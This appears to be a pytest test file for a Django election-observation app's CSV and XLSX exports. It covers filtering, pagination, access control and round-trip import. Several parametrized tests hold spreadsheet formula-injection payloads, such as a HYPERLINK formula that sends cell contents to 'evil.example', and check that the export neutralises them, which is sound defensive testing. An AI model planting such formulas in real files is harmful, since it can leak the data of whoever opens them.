import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from observation.exports import neutralise, unneutralise
from observation.models import PollingStation
from observation.views import lists
from tests import factories


def _csv_rows(response):
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _xlsx_rows(response):
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]


def _list_codes(client, url, query):
    """The station codes a list shows across all its pages."""
    codes, page = [], 1
    while True:
        response = client.get(url, {**query, "page": page})
        codes += [row.station.code for row in response.context["page"]]
        if not response.context["page"].has_next():
            return codes
        page += 1


def test_filtered_report_export_holds_exactly_the_rows_of_the_list(
    staff_client, mission, monkeypatch
):
    monkeypatch.setattr(lists, "PAGE_SIZE", 15)
    first = factories.ElectionRoundFactory(mission=mission)
    for n in range(120):
        station = factories.PollingStationFactory(
            mission=mission, area_1="Lima" if n % 3 else "Puno"
        )
        factories.ObserverReportFactory(
            mission=mission,
            round=first,
            station=station,
            phase="counting" if n % 2 else "voting",
        )
    query = {"area_1": "Lima", "phase": "counting"}
    listed = _list_codes(staff_client, reverse("observation:report_list", args=[mission.pk]), query)
    assert len(listed) == 40  # on three pages
    url = reverse("observation:report_export", args=[mission.pk, "csv"])

    header, *rows = _csv_rows(staff_client.get(url, query))

    assert header[:4] == ["Report", "Round", "Station code", "Station name"]
    assert [row[2] for row in rows] == listed
    assert {row[header.index("Department")] for row in rows} == {"Lima"}
    assert {row[header.index("Phase")] for row in rows} == {"Counting"}


def test_filtered_station_export_spans_all_pages(staff_client, mission):
    factories.PollingStationFactory.create_batch(130, mission=mission, area_1="Cusco")
    factories.PollingStationFactory.create_batch(10, mission=mission, area_1="Tacna")
    factories.PollingStationFactory.create_batch(5)  # another mission's
    list_url = reverse("observation:station_list", args=[mission.pk])
    response = staff_client.get(list_url, {"area_1": "Cusco"})
    assert response.context["page"].paginator.num_pages == 3
    shown = []
    for page in (1, 2, 3):
        page_rows = staff_client.get(list_url, {"area_1": "Cusco", "page": page})
        shown += [s.code for s in page_rows.context["page"]]
    url = reverse("observation:station_export", args=[mission.pk, "xlsx"])

    header, *rows = _xlsx_rows(staff_client.get(url, {"area_1": "Cusco", "page": 2}))

    assert header == [
        "Code",
        "Name",
        "Department",
        "Province",
        "District",
        "Registered voters",
        "In the random sample",
        "Latitude",
        "Longitude",
    ]
    assert [row[0] for row in rows] == shown
    assert len(rows) == 130


def test_filtered_irregularity_export_holds_the_filtered_rows(staff_client, mission, reviewer):
    first = factories.ElectionRoundFactory(mission=mission)
    verified = factories.IrregularityFactory.create_batch(3, mission=mission, round=first)
    for irregularity in verified:
        irregularity.verify(by=reviewer)
    factories.IrregularityFactory.create_batch(4, mission=mission, round=first)
    factories.IrregularityFactory(mission=mission, round=first, station=None)
    url = reverse("observation:irregularity_export", args=[mission.pk, "csv"])

    header, *rows = _csv_rows(staff_client.get(url, {"status": "verified"}))

    assert sorted(int(row[0]) for row in rows) == sorted(i.pk for i in verified)
    assert {row[header.index("Status")] for row in rows} == {"Verified"}
    assert {row[header.index("Reviewed by")] for row in rows} == {reviewer.username}
    everything = _csv_rows(staff_client.get(url))
    assert len(everything) == 1 + 8
    assert "national" in [row[2] for row in everything]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        # A control character would be stripped on the way into the workbook, after the
        # check, and leave a live formula behind: it goes first.
        ('\x01=HYPERLINK("http://evil.example")', '\'=HYPERLINK("http://evil.example")'),
        # Spreadsheets skip leading spaces before reading a formula.
        ("  =1+1", "'  =1+1"),
        ("\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("Escuela 12", "Escuela 12"),
        (-12.5, -12.5),
    ],
)
def test_neutralise_defuses_formula_cells_only(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_cell_starting_with_a_formula_is_neutralised(staff_client, mission, fmt):
    factories.PollingStationFactory(
        mission=mission, name='=HYPERLINK("http://evil.example","x")', latitude=-12.5, longitude=-77
    )
    url = reverse("observation:station_export", args=[mission.pk, fmt])
    response = staff_client.get(url)

    rows = _csv_rows(response) if fmt == "csv" else _xlsx_rows(response)

    assert rows[1][1] == '\'=HYPERLINK("http://evil.example","x")'
    # A negative number is a number, left alone.
    assert str(rows[1][7]) in {"-12.5", "-12.500000"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ('\x01=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ('  =HYPERLINK("http://evil.example","x")', '\'  =HYPERLINK("http://evil.example","x")'),
    ],
    ids=["control-character", "leading-spaces"],
)
def test_exported_cell_hiding_a_formula_behind_a_prefix_is_neutralised(
    staff_client, mission, fmt, name, expected
):
    factories.PollingStationFactory(mission=mission, name=name)
    url = reverse("observation:station_export", args=[mission.pk, fmt])
    response = staff_client.get(url)

    rows = _csv_rows(response) if fmt == "csv" else _xlsx_rows(response)

    assert rows[1][1] == expected


def test_xlsx_export_writes_every_text_cell_as_a_string(staff_client, mission):
    # "#N/A" would otherwise be stored as an error value, and any "=" text as a formula.
    factories.PollingStationFactory(mission=mission, name="#N/A", area_1="Lima")
    url = reverse("observation:station_export", args=[mission.pk, "xlsx"])
    workbook = load_workbook(io.BytesIO(b"".join(staff_client.get(url).streaming_content)))
    sheet = workbook.active

    assert [(cell.data_type, cell.value) for cell in sheet[2][1:3]] == [
        ("s", "#N/A"),
        ("s", "Lima"),
    ]
    assert {cell.data_type for cell in sheet[1]} == {"s"}


def test_xlsx_export_cell_is_text_not_a_formula(staff_client, mission):
    factories.PollingStationFactory(mission=mission, name="=1+1")
    url = reverse("observation:station_export", args=[mission.pk, "xlsx"])
    workbook = load_workbook(io.BytesIO(b"".join(staff_client.get(url).streaming_content)))

    cell = workbook.active["B2"]

    assert (cell.data_type, cell.value) == ("s", "'=1+1")


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        ("'=1+1", "=1+1"),
        ("'-2+3", "-2+3"),
        ("'+51 1 234", "+51 1 234"),
        ("'@SUM(A1)", "@SUM(A1)"),
        ("'  =1+1", "  =1+1"),
        ("'\tcmd", "\tcmd"),
        # Apostrophes the export never adds stay.
        ("'Escuela'", "'Escuela'"),
        ("'", "'"),
        ("''=1", "''=1"),
        ("'12", "'12"),
        ("Escuela", "Escuela"),
    ],
)
def test_unneutralise_removes_only_the_apostrophe_neutralise_adds(cell, text):
    assert unneutralise(cell) == text
    if cell != text:
        assert neutralise(text) == cell


def _station_values(mission):
    fields = ["code", "name", "area_1", "area_2", "area_3", "registered_voters", "in_sample"]
    return list(
        PollingStation.objects.filter(mission=mission)
        .order_by("code")
        .values(*fields, "latitude", "longitude")
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_station_export_imports_back_exactly_without_duplicates(
    staff_client, mission, settings, tmp_path, fmt
):
    settings.MEDIA_ROOT = tmp_path
    # Every cell here starts with a character the export defuses with an apostrophe.
    factories.PollingStationFactory(
        mission=mission,
        code="-001",
        name='=HYPERLINK("http://evil.example","x")',
        area_1="+Lima",
        area_2="@Miraflores",
        area_3="-",
        latitude=Decimal("-12.5"),
        longitude=Decimal("-77.03"),
    )
    factories.PollingStationFactory(mission=mission, code="=A1", name="'Escuela' 7")
    factories.PollingStationFactory(mission=mission, code="@HOME", name="+51 Colegio")
    factories.PollingStationFactory(mission=mission, code="0007", name="Escuela 7", in_sample=True)
    stored = _station_values(mission)
    export = staff_client.get(reverse("observation:station_export", args=[mission.pk, fmt]))
    file = io.BytesIO(b"".join(export.streaming_content))
    file.name = f"stations.{fmt}"

    response = staff_client.post(
        reverse("observation:station_import", args=[mission.pk]), {"file": file}
    )
    assert response.context["preview"].counts == {"created": 0, "updated": 4}
    staff_client.post(
        reverse("observation:station_import_confirm", args=[mission.pk]),
        {"token": response.context["token"]},
    )

    assert _station_values(mission) == stored


def test_station_export_imports_back(staff_client, mission, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    factories.PollingStationFactory(mission=mission, code="0007", area_1="Áncash")
    export = staff_client.get(reverse("observation:station_export", args=[mission.pk, "csv"]))
    file = io.BytesIO(b"".join(export.streaming_content))
    file.name = "stations.csv"

    response = staff_client.post(
        reverse("observation:station_import", args=[mission.pk]), {"file": file}
    )

    preview = response.context["preview"]
    assert (preview.is_valid, preview.notices, preview.counts) == (
        True,
        [],
        {"created": 0, "updated": 1},
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("name", ["report_export", "irregularity_export"])
@pytest.mark.parametrize("value", ["other-mission", "abc"])
def test_an_export_with_a_bad_filter_is_refused_and_exports_nothing(
    staff_client, mission, fmt, name, value
):
    first = factories.ElectionRoundFactory(mission=mission)
    factories.ObserverReportFactory.create_batch(2, mission=mission, round=first)
    factories.IrregularityFactory.create_batch(2, mission=mission, round=first)
    other_round = factories.ElectionRoundFactory()
    url = reverse(f"observation:{name}", args=[mission.pk, fmt])

    response = staff_client.get(
        url, {"round": other_round.pk if value == "other-mission" else value}
    )

    assert response.status_code == 400
    assert not response.streaming
    assert response["Content-Type"].startswith("text/plain")
    assert "Content-Disposition" not in response
    assert response.content.decode().startswith(
        "These filters are not valid, so nothing was exported. Round: Select a valid choice."
    )


@pytest.mark.parametrize("name", ["station_export", "report_export", "irregularity_export"])
def test_exports_are_for_members_only(client, stranger, mission, name):
    url = reverse(f"observation:{name}", args=[mission.pk, "csv"])
    assert client.get(url).status_code == 302
    client.force_login(stranger)
    assert client.get(url).status_code == 404


def test_unknown_export_format_is_404(staff_client, mission):
    url = reverse("observation:station_export", args=[mission.pk, "pdf"])
    assert staff_client.get(url).status_code == 404


def test_report_export_queries_do_not_grow_with_rows(
    staff_client, mission, django_assert_num_queries
):
    first = factories.ElectionRoundFactory(mission=mission)
    factories.ObserverReportFactory.create_batch(30, mission=mission, round=first)
    url = reverse("observation:report_export", args=[mission.pk, "csv"])

    # session, user, mission with role, area choices, the checklist questions (for the
    # answer filter and for the columns), reports with their related rows, their answers
    with django_assert_num_queries(8):
        _csv_rows(staff_client.get(url))
